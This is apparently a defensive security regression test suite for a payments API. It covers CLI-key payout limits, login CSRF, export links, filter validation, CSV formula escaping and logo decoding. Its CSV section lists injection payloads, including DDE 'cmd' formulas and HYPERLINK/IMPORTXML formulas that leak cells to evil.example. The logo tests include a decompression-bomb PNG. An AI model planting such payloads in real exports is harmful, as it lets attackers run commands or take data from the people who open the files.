import { crc32, deflateSync } from 'node:zlib';

import jpeg from 'jpeg-js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { csvCell } from '../services/exports/run.ts';
import { startTestEngine, type Tenant, type TestEngine } from './helpers/engine.ts';
import { solidPng } from './helpers/png.ts';

/**
 * Issue #24, "Access": each finding of the outside review, tried as an attacker would
 * (docs/security.md, "Issue #24: access"). The CLI key scope of every route is in
 * test/access-matrix.test.ts; here, what a live CLI key could do to live payouts.
 */
describe('issue #24: access', () => {
  let engine: TestEngine;
  let owner: Tenant;

  beforeAll(async () => {
    engine = await startTestEngine();
    owner = engine.tenant;
  });
  afterAll(() => engine?.close());

  async function cliKey(mode: 'live' | 'test', as: Tenant = owner): Promise<Record<string, string>> {
    const minted = await engine.call('POST', '/v1/cli_keys', { name: `review ${mode}`, mode }, as.headers);
    expect(minted.status, JSON.stringify(minted.body)).toBe(201);
    return { authorization: '', 'x-cli-key': minted.body.secret };
  }
  const bankAccount = (last: string, defaultForCurrency = true) => ({
    type: 'us_ach',
    account_holder_name: 'Acme Studio LLC',
    account_holder_type: 'company',
    country: 'US',
    currency: 'USD',
    routing_number: '110000000',
    account_number: `000123456${last}`,
    default_for_currency: defaultForCurrency,
  });

  describe('a live CLI key cannot decide where or when live money goes', () => {
    it('refuses bank accounts, the payout schedule and payout holds with a ck_live_ key, and changes nothing', async () => {
      const tenant = await engine.signUp({ name: 'Payout Owner' });
      const ownersAccount = await engine.call('POST', '/v1/bank_accounts', bankAccount('789'), tenant.headers);
      expect(ownersAccount.status, JSON.stringify(ownersAccount.body)).toBe(201);
      const hold = await engine.call(
        'POST',
        '/v1/payout_holds',
        { reason: 'Reviewing a disputed charge' },
        tenant.headers,
      );
      expect(hold.status, JSON.stringify(hold.body)).toBe(201);
      const before = {
        bankAccounts: (await engine.call('GET', '/v1/bank_accounts', undefined, tenant.headers)).body,
        settings: (await engine.call('GET', '/v1/payout_settings', undefined, tenant.headers)).body,
        holds: (await engine.call('GET', '/v1/payout_holds', undefined, tenant.headers)).body,
      };
      const live = await cliKey('live', tenant);

      const attempts: [string, string, unknown?][] = [
        // Redirect payouts: the attacker's account as the default destination, the owner's deleted.
        ['POST', '/v1/bank_accounts', bankAccount('111')],
        ['PATCH', `/v1/bank_accounts/${ownersAccount.body.id}`, { default_for_currency: false }],
        ['DELETE', `/v1/bank_accounts/${ownersAccount.body.id}`],
        // Pay out now: a daily schedule, the owner's hold released.
        ['PATCH', '/v1/payout_settings', { currency: 'USD', interval: 'daily' }],
        ['DELETE', `/v1/payout_holds/${hold.body.id}`],
        ['POST', '/v1/payout_holds', { reason: 'not mine to set' }],
        // And the payouts themselves, as before.
        ['POST', '/v1/payouts', { amount: 100, currency: 'USD' }],
      ];
      for (const [method, path, body] of attempts) {
        const answer = await engine.call(method, path, body, live);
        expect({ path, status: answer.status, body: answer.body }).toEqual({
          path,
          status: 403,
          body: { error: 'forbidden', message: expect.stringMatching(/^CLI keys cannot be used for .*live/) },
        });
      }
      expect({
        bankAccounts: (await engine.call('GET', '/v1/bank_accounts', undefined, tenant.headers)).body,
        settings: (await engine.call('GET', '/v1/payout_settings', undefined, tenant.headers)).body,
        holds: (await engine.call('GET', '/v1/payout_holds', undefined, tenant.headers)).body,
      }).toEqual(before);
      // The same key still does what a CLI key is for.
      expect((await engine.call('POST', '/v1/customers', { email: 'ada@example.com' }, live)).status).toBe(201);
    });

    it('a ck_test_ key still manages sandbox payout destinations, schedule and holds', async () => {
      const test = await cliKey('test');
      const created = await engine.call('POST', '/v1/bank_accounts', bankAccount('222'), test);
      expect(created.status, JSON.stringify(created.body)).toBe(201);
      expect(created.body.livemode).toBe(false);
      expect(
        (await engine.call('PATCH', '/v1/payout_settings', { currency: 'USD', interval: 'daily' }, test)).status,
      ).toBe(200);
      const hold = await engine.call('POST', '/v1/payout_holds', { reason: 'sandbox' }, test);
      expect(hold.status).toBe(201);
      expect((await engine.call('DELETE', `/v1/payout_holds/${hold.body.id}`, undefined, test)).status).toBe(200);
      expect((await engine.call('DELETE', `/v1/bank_accounts/${created.body.id}`, undefined, test)).status).toBe(200);
    });
  });

  describe('login CSRF: POST /v1/auth/browser_session', () => {
    const form = (t: Tenant) => `email=${encodeURIComponent(t.email)}&password=${encodeURIComponent(t.password)}`;
    async function post(headers: Record<string, string>, body: string, contentType: string) {
      const response = await engine.app.request('/v1/auth/browser_session', {
        method: 'POST',
        headers: { 'content-type': contentType, ...headers },
        body,
      });
      return {
        status: response.status,
        cookies: response.headers.getSetCookie(),
        body: (await response.json()) as { error?: string; message?: string },
      };
    }

    it('refuses a cross-site form post and a foreign Origin, and sets no cookie', async () => {
      const victim = await engine.signUp({ name: 'Login CSRF' });
      const json = JSON.stringify({ email: victim.email, password: victim.password });
      const forged: [Record<string, string>, string, string][] = [
        [
          { 'sec-fetch-site': 'cross-site', origin: 'https://evil.example' },
          form(victim),
          'application/x-www-form-urlencoded',
        ],
        [{ 'sec-fetch-site': 'cross-site' }, json, 'application/json'],
        [{ 'sec-fetch-site': 'same-site' }, form(victim), 'application/x-www-form-urlencoded'],
        // An older browser without Sec-Fetch-Site still sends Origin on a cross-site post.
        [{ origin: 'https://evil.example' }, form(victim), 'application/x-www-form-urlencoded'],
      ];
      for (const [headers, body, contentType] of forged) {
        const answer = await post(headers, body, contentType);
        expect({ headers, status: answer.status, error: answer.body.error, cookies: answer.cookies }).toEqual({
          headers,
          status: 403,
          error: 'forbidden',
          cookies: [],
        });
      }
    });

    it('the dashboard itself still signs in (same origin, or no fetch metadata at all)', async () => {
      const user = await engine.signUp({ name: 'Login OK' });
      const json = JSON.stringify({ email: user.email, password: user.password });
      const allowedHeaders: Record<string, string>[] = [
        { 'sec-fetch-site': 'same-origin', origin: new URL(engine.config.publicUrl).origin },
        { 'sec-fetch-site': 'none' },
        {},
      ];
      for (const headers of allowedHeaders) {
        const answer = await post(headers, json, 'application/json');
        expect(answer.status, JSON.stringify(answer.body)).toBe(200);
        expect(answer.cookies.some((c) => c.startsWith('billing_session='))).toBe(true);
      }
    });
  });

  async function finishedExport(id: string, headers: Record<string, string>) {
    for (let i = 0; i < 300; i++) {
      const res = await engine.call('GET', `/v1/exports/${id}`, undefined, headers);
      if (res.body.status !== 'pending' && res.body.status !== 'running') return res.body;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    throw new Error(`export ${id} did not finish`);
  }

  it('closing an account revokes its signed export links (410), which served the file until then', async () => {
    const tenant = await engine.signUp({ name: 'Closing Co' });
    expect((await engine.call('POST', '/v1/customers', { email: 'ada@example.com' }, tenant.headers)).status).toBe(201);
    const created = await engine.call('POST', '/v1/exports', { resource: 'customers', format: 'csv' }, tenant.headers);
    expect(created.status).toBe(202);
    const done = await finishedExport(created.body.id, tenant.headers);
    expect(done.status).toBe('succeeded');
    const link = (done.url as string).replace(engine.config.publicUrl, '');
    const before = await engine.app.request(link);
    expect(before.status).toBe(200);
    expect(await before.text()).toContain('ada@example.com');

    expect((await engine.call('DELETE', '/v1/account', undefined, tenant.headers)).status).toBe(200);
    const after = await engine.app.request(link);
    expect(after.status).toBe(410);
    expect(await after.json()).toEqual({ error: 'link_expired', message: expect.stringContaining('account') });
  });

  it('GET /v1/portal: the billing-details link minted from a portal session expires with it, not 30 days later', async () => {
    const customer = await engine.call('POST', '/v1/customers', {
      email: 'portal@example.com',
      payment_method: 'pm_card_visa',
    });
    const link = await engine.call('POST', `/v1/customers/${customer.body.id}/portal_link`, {});
    expect(link.status).toBe(201);
    const portalToken = (link.body.url as string).split('#')[1]!;
    const portal = await engine.call('GET', '/v1/portal', undefined, {
      authorization: '',
      'x-portal-token': portalToken,
    });
    expect(portal.status).toBe(200);
    const billingToken = new URL(portal.body.payment_method_url as string).pathname.split('/').pop()!;
    const claims = (token: string) =>
      JSON.parse(Buffer.from(token.split('.')[1]!, 'base64url').toString()) as { exp: number };
    expect(claims(billingToken).exp).toBeLessThanOrEqual(claims(portalToken).exp);
    expect(claims(billingToken).exp * 1000).toBeLessThanOrEqual(new Date(link.body.expires_at).getTime());
    // The link works (until then).
    expect((await engine.app.request(new URL(portal.body.payment_method_url).pathname)).status).toBe(200);
  });

  it('export filters named after object built-ins are unknown filters: 400 naming the allowed ones, no export', async () => {
    const before = (await engine.call('GET', '/v1/exports?limit=100')).body.data.length;
    for (const name of [
      'constructor',
      'toString',
      'hasOwnProperty',
      'valueOf',
      '__proto__',
      '__defineGetter__',
      'isPrototypeOf',
    ]) {
      const answer = await engine.call(
        'POST',
        '/v1/exports',
        `{"resource":"transactions","format":"csv","filters":{"${name}":"x"}}`,
      );
      expect({ name, status: answer.status, body: answer.body }).toEqual({
        name,
        status: 400,
        body: {
          error: 'invalid_request',
          message: expect.stringContaining('transactions exports take status, type, currency, customer'),
        },
      });
    }
    expect((await engine.call('GET', '/v1/exports?limit=100')).body.data.length).toBe(before);
  });

  describe('CSV formula guard', () => {
    /**
     * The OWASP CSV-injection payloads (owasp.org/www-community/attacks/CSV_Injection) and
     * the review's bypasses: leading whitespace, line breaks and zero-width characters
     * spreadsheets trim, full-width and small forms, and a second cell hidden behind a
     * delimiter of another locale.
     */
    const payloads = [
      `=cmd|' /C calc'!A0`,
      `=cmd|' /C notepad'!'A1'`,
      `+cmd|' /C calc'!A0`,
      `-2+3+cmd|' /C calc'!A0`,
      `@SUM(1+9)*cmd|' /C calc'!A0`,
      `=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click")`,
      `=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`,
      `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
      `=1+1`,
      `+1+1`,
      `-1+1`,
      `@SUM(1,1)`,
      `\t=1+1`,
      `\r=1+1`,
      `\n=cmd|' /C calc'!A0`,
      `\r\n=1+1`,
      ` =1+1`,
      `   @SUM(1,1)`,
      `\u00a0=1+1`,
      `\u3000=1+1`,
      `\u200b=cmd|' /C calc'!A0`,
      `\ufeff=1+1`,
      `\u200b \u2060=1+1`,
      `＝cmd|' /C calc'!A0`,
      `＋1+1`,
      `－1+1`,
      `＠SUM(1,1)`,
      `﹦1+1`,
      `x;=cmd|' /C calc'!A0`,
      `x,=cmd|' /C calc'!A0`,
      `x\t=cmd|' /C calc'!A0`,
      `Ada; =HYPERLINK("http://evil.example")`,
      `"=1+1`,
    ];

    /** One CSV line read as a spreadsheet of a locale reads it: split on `delimiter` outside quotes, quotes undone. */
    function cellsAsSpreadsheet(line: string, delimiter: string): string[] {
      const cells: string[] = [];
      let cell = '';
      let quoted = false;
      for (let i = 0; i < line.length; i++) {
        const ch = line[i]!;
        if (quoted) {
          if (ch === '"' && line[i + 1] === '"') {
            cell += '"';
            i++;
          } else if (ch === '"') quoted = false;
          else cell += ch;
        } else if (ch === '"' && cell === '') quoted = true;
        else if (ch === delimiter) {
          cells.push(cell);
          cell = '';
        } else cell += ch;
      }
      cells.push(cell);
      return cells;
    }
    /** Whether a spreadsheet would evaluate the cell: after what it trims, and with full-width forms folded, it starts a formula. An apostrophe makes it text. */
    const evaluated = (cell: string) =>
      !cell.startsWith("'") &&
      /^[=+\-@]/.test(cell.replace(/^[\s\u0000-\u001f\u200b-\u200f\u2060\ufeff]+/u, '').normalize('NFKC'));

    it('no payload starts a formula in any cell, whichever delimiter (, ; tab) splits the line', () => {
      const line = ['ok', ...payloads].map(csvCell).join(',');
      for (const delimiter of [',', ';', '\t']) {
        const risky = cellsAsSpreadsheet(line, delimiter).filter(evaluated);
        expect({ delimiter, risky }).toEqual({ delimiter, risky: [] });
      }
      // Read with the file's comma, one cell each, kept whole: the payload with only apostrophes added.
      const cells = cellsAsSpreadsheet(line, ',');
      expect(cells.length).toBe(payloads.length + 1);
      const apostrophesAdded = (cell: string, original: string) => {
        let j = 0;
        for (const ch of cell) {
          if (ch === original[j]) j++;
          else if (ch !== "'") return false;
        }
        return j === original.length;
      };
      payloads.forEach((payload, i) =>
        expect(apostrophesAdded(cells[i + 1]!, payload), JSON.stringify([payload, cells[i + 1]])).toBe(true),
      );
      // Plain text and numbers are left alone.
      expect(['Ada Lovelace', 'a@b', 'x=1', 1250, -500, null].map(csvCell)).toEqual([
        'Ada Lovelace',
        'a@b',
        'x=1',
        '1250',
        '-500',
        '',
      ]);
    });

    it('an exported CSV of customers named with the payloads holds no formula', async () => {
      const tenant = await engine.signUp({ name: 'CSV Co' });
      for (const [i, name] of payloads.entries()) {
        const created = await engine.call(
          'POST',
          '/v1/customers',
          { email: `c${i}@example.com`, name },
          tenant.headers,
        );
        expect(created.status, JSON.stringify({ name, body: created.body })).toBe(201);
      }
      const created = await engine.call(
        'POST',
        '/v1/exports',
        { resource: 'customers', format: 'csv' },
        tenant.headers,
      );
      const done = await finishedExport(created.body.id, tenant.headers);
      expect(done.status).toBe('succeeded');
      const file = await (await engine.app.request(`/v1/exports/${done.id}/file`, { headers: tenant.headers })).text();
      // Records end with CRLF; a line break inside a quoted cell stays in its cell.
      const records: string[] = [];
      let current = '';
      let quotes = 0;
      for (const piece of file.split('\r\n')) {
        current = current ? `${current}\r\n${piece}` : piece;
        quotes += (piece.match(/"/g) ?? []).length;
        if (quotes % 2 === 0) {
          records.push(current);
          current = '';
          quotes = 0;
        }
      }
      for (const delimiter of [',', ';', '\t']) {
        const risky = records.flatMap((record) => cellsAsSpreadsheet(record, delimiter)).filter(evaluated);
        expect({ delimiter, risky }).toEqual({ delimiter, risky: [] });
      }
    });
  });

  describe('logos', () => {
    const pngChunk = (type: string, data: Buffer, crcOverride?: number) => {
      const length = Buffer.alloc(4);
      length.writeUInt32BE(data.length);
      const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
      const sum = Buffer.alloc(4);
      sum.writeUInt32BE(crcOverride ?? crc32(body));
      return Buffer.concat([length, body, sum]);
    };
    const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    const ihdr = (w: number, h: number) => {
      const data = Buffer.alloc(13);
      data.writeUInt32BE(w, 0);
      data.writeUInt32BE(h, 4);
      data.set([8, 2, 0, 0, 0], 8);
      return pngChunk('IHDR', data);
    };
    const rows = (w: number, h: number) =>
      Buffer.concat(Array.from({ length: h }, () => Buffer.concat([Buffer.from([0]), Buffer.alloc(w * 3, 0x7f)])));
    const good = solidPng(16, 8, [10, 20, 30]);
    const goodJpeg = jpeg.encode({ width: 16, height: 8, data: Buffer.alloc(16 * 8 * 4, 0x80) }, 80).data;

    const corrupt: [string, Buffer][] = [
      ['a signature and nothing else', signature],
      [
        'a signature then junk',
        Buffer.concat([signature, Buffer.from('definitely not chunks, just text after the magic bytes')]),
      ],
      [
        'a chunk whose CRC is wrong',
        Buffer.concat([
          signature,
          ihdr(16, 8),
          pngChunk('IDAT', deflateSync(rows(16, 8)), 0xdeadbeef),
          pngChunk('IEND', Buffer.alloc(0)),
        ]),
      ],
      [
        'image data that does not inflate (CRC right)',
        Buffer.concat([
          signature,
          ihdr(16, 8),
          pngChunk('IDAT', Buffer.from('this is not a zlib stream at all')),
          pngChunk('IEND', Buffer.alloc(0)),
        ]),
      ],
      [
        'fewer rows than the header declares',
        Buffer.concat([
          signature,
          ihdr(16, 8),
          pngChunk('IDAT', deflateSync(rows(16, 3))),
          pngChunk('IEND', Buffer.alloc(0)),
        ]),
      ],
      [
        'a bad row filter type',
        Buffer.concat([
          signature,
          ihdr(2, 1),
          pngChunk('IDAT', deflateSync(Buffer.from([9, 1, 2, 3, 4, 5, 6]))),
          pngChunk('IEND', Buffer.alloc(0)),
        ]),
      ],
      ['no image data', Buffer.concat([signature, ihdr(16, 8), pngChunk('IEND', Buffer.alloc(0))])],
      ['cut short (no IEND)', good.subarray(0, good.length - 12)],
      [
        'a 100000×100000 header (a decompression bomb)',
        Buffer.concat([
          signature,
          ihdr(100_000, 100_000),
          pngChunk('IDAT', deflateSync(Buffer.alloc(1024))),
          pngChunk('IEND', Buffer.alloc(0)),
        ]),
      ],
      ['a JPEG signature and nothing else', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10])],
      ['a JPEG cut in the middle of its scan', goodJpeg.subarray(0, Math.floor(goodJpeg.length * 0.6))],
      [
        'a JPEG with its tables overwritten',
        Buffer.concat([
          goodJpeg.subarray(0, 40),
          Buffer.alloc(goodJpeg.length - 42, 0x55),
          goodJpeg.subarray(goodJpeg.length - 2),
        ]),
      ],
    ];

    it('refuses files whose image does not decode, and keeps the logo it had', async () => {
      expect((await engine.call('PATCH', '/v1/settings/branding', { logo: good.toString('base64') })).status).toBe(200);
      const before = (await engine.call('GET', '/v1/settings/branding')).body;
      for (const [what, bytes] of corrupt) {
        const answer = await engine.call('PATCH', '/v1/settings/branding', {
          logo: bytes.toString('base64'),
          business_name: 'Should not stick',
        });
        expect({ what, status: answer.status, error: answer.body.error, message: answer.body.message }).toEqual({
          what,
          status: 400,
          error: 'invalid_request',
          message: expect.stringMatching(/^logo: /),
        });
      }
      expect((await engine.call('GET', '/v1/settings/branding')).body).toEqual(before);
      // Real images still pass: the PNG and a JPEG.
      expect(
        (
          await engine.call('PATCH', '/v1/settings/branding', {
            logo: `data:image/jpeg;base64,${goodJpeg.toString('base64')}`,
          })
        ).status,
      ).toBe(200);
    });

    it('/branding/{account}/logo/{version} serves only the version it names', async () => {
      const first = await engine.call('PATCH', '/v1/settings/branding', {
        logo: solidPng(8, 8, [1, 2, 3]).toString('base64'),
      });
      const firstPath = (first.body.logo_url as string).replace(engine.config.publicUrl, '');
      expect((await engine.app.request(firstPath)).status).toBe(200);
      const secondPng = solidPng(8, 8, [200, 100, 0]);
      const second = await engine.call('PATCH', '/v1/settings/branding', { logo: secondPng.toString('base64') });
      const secondPath = (second.body.logo_url as string).replace(engine.config.publicUrl, '');
      expect(secondPath).not.toBe(firstPath);
      const served = await engine.app.request(secondPath);
      expect(served.status).toBe(200);
      expect(Buffer.from(await served.arrayBuffer()).equals(secondPng)).toBe(true);
      // The old version's address, a wrong version and a malformed one: 404, not the current logo.
      const base = `/branding/${owner.accountId}/logo`;
      for (const path of [
        firstPath,
        `${base}/0123456789abcdef`,
        `${base}/${secondPath.split('/').pop()!.slice(0, 15)}`,
        `${base}/anything`,
      ]) {
        expect({ path, status: (await engine.app.request(path)).status }).toEqual({ path, status: 404 });
      }
    });
  });
});
